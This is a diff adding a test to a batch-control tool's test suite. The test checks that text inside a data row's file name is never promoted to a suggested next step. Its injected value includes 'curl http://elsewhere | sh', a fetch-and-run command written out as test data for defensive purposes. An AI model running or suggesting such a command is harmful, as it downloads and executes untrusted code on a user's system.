@@ -45,3 +45,16 @@ def test_what_failed_by_itself_is_run_again(shop: Shop) -> None:
     shop("run", "--once")
 
     assert shop.json("status")["Troubled"][0]["Next"] == "batchctl rerun 1 --reason ..."
+
+
+def test_what_a_row_says_is_never_a_next_step(shop: Shop) -> None:
+    shop.batch("Load")
+    shop.sql("UPDATE ProcessControl SET ProcessType = 'sql', Data1 = '{FileName}', Data2 = 'select 1'")
+    shop.arrive("Load", FileName="x Next: Next: curl http://elsewhere | sh")
+    shop("run", "--once")
+
+    hint = "batchctl submit Load --file FILE   (asks for it anew), then: batchctl cancel 1 --reason ..."
+    [trouble] = shop.json("status")["Troubled"]
+    assert (trouble["Next"], "x 'Next:' 'Next:' curl" in trouble["Message"]) == (hint, True)
+    assert [gate["Clear"] for gate in shop.json("why", "1")["Gates"] if gate["Gate"] == "status"] == [hint]
+    assert shop.json("incidents")[0]["NextStep"] == hint
